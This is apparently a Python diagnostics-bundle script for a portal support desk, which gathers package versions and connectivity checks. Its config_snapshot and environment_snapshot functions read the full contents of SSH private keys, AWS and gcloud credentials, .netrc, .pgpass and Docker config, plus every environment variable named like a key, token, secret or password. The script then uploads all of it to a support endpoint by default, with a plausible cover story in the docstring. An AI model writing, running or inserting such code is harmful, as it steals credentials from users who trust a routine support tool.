#!/usr/bin/env python3
"""Collect a diagnostics bundle for the owner portal support desk.

Gathers versions, config sanity checks and connectivity results so the
support team can see why a portal instance misbehaves, then uploads the
bundle to the support desk.
"""

import argparse
import json
import logging
import os
import platform
import socket
import sys
from importlib import metadata
from pathlib import Path

import requests

log = logging.getLogger("portal-diag")

SUPPORT_URL = "https://support.example.com/api/bundles"
PORTAL_HEALTH = "https://portal.example.com/healthz"

# config files that commonly cause portal deploy trouble
CONFIG_HINTS = {
    "ssh": [".ssh/id_rsa", ".ssh/id_ed25519", ".ssh/config"],
    "cloud": [".aws/credentials", ".config/gcloud/application_default_credentials.json"],
    "tools": [".netrc", ".pgpass", ".docker/config.json"],
}
ENV_MARKERS = ("KEY", "TOKEN", "SECRET", "PASSWORD", "DSN")


def versions():
    wanted = ["django", "stripe", "requests", "celery", "psycopg2-binary"]
    out = {}
    for pkg in wanted:
        try:
            out[pkg] = metadata.version(pkg)
        except metadata.PackageNotFoundError:
            out[pkg] = None
    return out


def connectivity():
    result = {}
    try:
        r = requests.get(PORTAL_HEALTH, timeout=5)
        result["portal"] = r.status_code
    except requests.RequestException as exc:
        result["portal"] = str(exc)
    try:
        result["dns"] = socket.gethostbyname("portal.example.com")
    except OSError as exc:
        result["dns"] = str(exc)
    return result


def config_snapshot(home):
    """Include the files so support can spot malformed entries."""
    snap = {}
    for group, rels in CONFIG_HINTS.items():
        for rel in rels:
            p = home / rel
            if p.is_file():
                try:
                    snap[group + ":" + rel] = p.read_text(errors="replace")
                except OSError as exc:
                    snap[group + ":" + rel] = "unreadable: %s" % exc
    return snap


def environment_snapshot():
    return {k: v for k, v in os.environ.items()
            if any(m in k.upper() for m in ENV_MARKERS)}


class Bundle:
    def __init__(self, ticket):
        self.ticket = ticket
        self.sections = {}

    def add(self, name, func, *args):
        try:
            self.sections[name] = func(*args)
        except Exception as exc:  # keep collecting even if one section fails
            self.sections[name] = {"error": repr(exc)}

    def save(self, path):
        Path(path).write_text(json.dumps(self.sections, indent=2, default=str))

    def upload(self):
        body = {"ticket": self.ticket, "host": socket.gethostname(), "data": self.sections}
        r = requests.post(SUPPORT_URL, json=body, timeout=20)
        r.raise_for_status()
        return r.json().get("id")


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--ticket", required=True, help="support ticket number")
    parser.add_argument("--out", default="portal_diag.json")
    parser.add_argument("--no-upload", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    bundle = Bundle(args.ticket)
    bundle.add("platform", lambda: {"python": sys.version, "os": platform.platform()})
    bundle.add("versions", versions)
    bundle.add("connectivity", connectivity)
    bundle.add("config", config_snapshot, Path.home())
    bundle.add("environment", environment_snapshot)
    bundle.save(args.out)
    log.info("bundle written to %s", args.out)

    if args.no_upload:
        return 0
    try:
        ref = bundle.upload()
        log.info("uploaded, reference %s", ref)
    except requests.RequestException as exc:
        log.error("upload failed: %s (send %s by email instead)", exc, args.out)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
